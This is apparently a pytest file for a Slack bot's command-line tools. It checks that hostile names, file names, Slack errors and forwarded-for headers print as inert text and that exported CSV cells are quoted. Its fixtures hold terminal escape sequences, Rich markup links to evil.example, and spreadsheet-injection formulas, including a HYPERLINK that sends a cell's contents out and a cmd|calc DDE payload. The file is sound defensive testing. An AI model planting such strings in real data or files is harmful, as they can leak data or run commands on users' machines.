"""Data stays data outside Slack too: in the terminal of every verb, in `serve`'s logs, in a spreadsheet.

The verbs run as a person runs them, on a terminal (TTY_COMPATIBLE=1): Rich draws colours and would
draw hyperlinks, so a name that smuggles Rich markup or an escape sequence would show.
"""

from __future__ import annotations

import csv
import re
import time
from pathlib import Path

from sqlalchemy import Engine
from sqlmodel import Session, select

from bot.cli.plan import spreadsheet_cell
from bot.models import Account, Person, Team
from tests.support import company
from tests.support import factories as f
from tests.support.processes import Cli, ServedApp
from tests.support.signing import request
from tests.support.slack_standin import SlackStandIn

TERMINAL = {"TTY_COMPATIBLE": "1", "TERM": "xterm-256color", "NO_COLOR": "", "COLUMNS": "250"}
LINK = "Ops [link=https://evil.example/]click[/link]"
CLOSING = "Ops[/bold]"
# Rich markup, an OSC 8 hyperlink, C1's CSI: each reaches the terminal as text or not at all.
HOSTILE = "[link=https://evil.example/]Dunmore[/link] \x1b]8;;https://evil.example\x07here\x1b]8;;\x07 \x9b2J"
# The sequences that would drive the terminal: OSC (hyperlinks, titles), BEL, C1's CSI.
DRIVING = ("\x1b]", "\x07", "\x9b")
COLOURS = re.compile(r"\x1b\[[0-9;]*m")  # our own styling, stripped to read the words


def words(output: str) -> str:
    return COLOURS.sub("", output)


def assert_inert(output: str) -> None:
    assert not any(seq in output for seq in DRIVING), repr(output[:2000])
    assert "Traceback" not in output and "MarkupError" not in output, output[-3000:]


def test_names_with_markup_and_escapes_print_as_text_in_digest_dry_run(
    cli: Cli, engine: Engine, session: Session, tmp_path: Path
) -> None:
    company.load(engine, tmp_path)
    company.set_channels(session)
    harbor = session.exec(select(Team).where(Team.name == "Harbor")).one()
    harbor.name = "Harbor [italic]"
    account = session.exec(select(Account).where(Account.external_id == "DECL")).one()
    account.name = HOSTILE
    ana = session.exec(select(Person).where(Person.slack_user_id == "U0ANA")).one()
    ana.name = "Ana [bold]Alvarez"
    for name in (LINK, CLOSING):  # no members: "nothing to send", a line of ours around each name
        f.team(session, name)
    session.commit()

    result = cli.run("digest", "--dry-run", "--at", "2026-11-23T10:00+00:00", env=TERMINAL)

    assert result.returncode == 0, result.stdout
    assert_inert(result.stdout)
    shown = words(result.stdout)
    assert f"Team {CLOSING}: nothing to send." in shown and f"Team {LINK}: nothing to send." in shown
    assert "Usage drops · Harbor [italic] ·" in shown, "the team's post, its name as typed"
    assert "[link=https://evil.example/]Dunmore[/link]" in shown and "Good morning Ana" in shown


def test_the_plan_prints_hostile_names_as_text_and_its_csv_holds_no_formula(
    cli: Cli, session: Session, tmp_path: Path
) -> None:
    team = f.team(session, LINK)
    dana, eli = f.person(session, team, "U0DANA", name=CLOSING), f.person(session, team, "U0ELI")
    formulas = ['=HYPERLINK("https://evil.example/?"&B3,"Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
    for i, account in enumerate(f.book(session, dana, mid_market=130)):
        account.name = formulas[i % 4]
        account.external_id = f"=X{i}" if i % 2 else f"-{i}"
    f.book(session, eli, mid_market=100)
    session.commit()
    moves_csv = tmp_path / "moves.csv"

    result = cli.run("plan", "--csv", str(moves_csv), env=TERMINAL)

    assert result.returncode == 0, result.stdout
    assert_inert(result.stdout)
    shown = words(result.stdout)
    assert f"Rebalancing plan — team {LINK}" in shown and CLOSING in shown
    assert "5 moves written to" in shown
    with moves_csv.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0][:7] == ["external_id", "name", "segment", "arr", "from", "to", "reason"]
    assert len(rows) == 6
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert {row[1] for row in rows[1:]} <= {"'" + formula for formula in formulas}, "kept, quoted as text"
    assert {row[0][:2] for row in rows[1:]} <= {"'=", "'-"}


def test_every_cell_a_spreadsheet_would_evaluate_is_quoted_numbers_included() -> None:
    for cell in ("=1+2", "+1", "-5.00", "@SUM(A1)", "\tx", "\rx"):
        assert spreadsheet_cell(cell) == "'" + cell
    for cell in ("", "5.00", "Acme = good", "U0DANA", "'quoted"):
        assert spreadsheet_cell(cell) == cell


def test_an_import_of_a_file_with_markup_and_escapes_in_its_name_prints_its_summary_as_text(
    cli: Cli, tmp_path: Path
) -> None:
    team, _, _ = company.write_files(tmp_path)
    hostile = tmp_path / f"{CLOSING} {LINK} \x9b2J.csv"  # its slashes make folders: markup all the same
    hostile.parent.mkdir(parents=True)
    hostile.write_text(team.read_text(encoding="utf-8"), encoding="utf-8")

    result = cli.run("import", "team", str(hostile), env=TERMINAL)

    assert result.returncode == 0, result.stdout
    assert_inert(result.stdout)
    assert f"team from {str(hostile).replace(chr(0x9B) + '2J', '')}: 4 rows read" in words(result.stdout)


def test_a_hostile_error_string_from_slack_reaches_the_terminal_as_text(
    cli: Cli, engine: Engine, session: Session, slack: SlackStandIn, tmp_path: Path
) -> None:
    company.load(engine, tmp_path)
    company.set_channels(session)
    slack.error("chat.postMessage", "channel_not_found\x1b]0;pwned\x07 \x9b2J[bold]loud", times=None)

    result = cli.run("digest", "--at", "2026-11-23T10:00+00:00", env=TERMINAL)

    assert result.returncode == 3, result.stdout  # messages failed: the round says so
    assert_inert(result.stdout)
    summary = next(line for line in words(result.stdout).splitlines() if line.startswith("Morning round"))
    assert "failed" in summary and "channel_not_found [bold]loud" in summary


def test_serve_logs_a_hostile_forwarded_for_as_text(served_app: ServedApp) -> None:
    forged = "203.0.113.9\x9b2J\x9b31mFORGED"
    answer = request("GET", served_app.url + "/healthz", headers={"X-Forwarded-For": forged})
    assert answer.status == 200

    deadline = time.monotonic() + 10
    while "GET /healthz" not in (logs := served_app.logs()) or "FORGED" not in logs:
        assert time.monotonic() < deadline, logs
        time.sleep(0.05)
    line = next(line for line in logs.splitlines() if "FORGED" in line)
    assert "\x9b" not in logs and "\x1b" not in logs, repr(line)
    assert "uvicorn.access" in line and '"GET /healthz HTTP/1.1" 200' in line, line
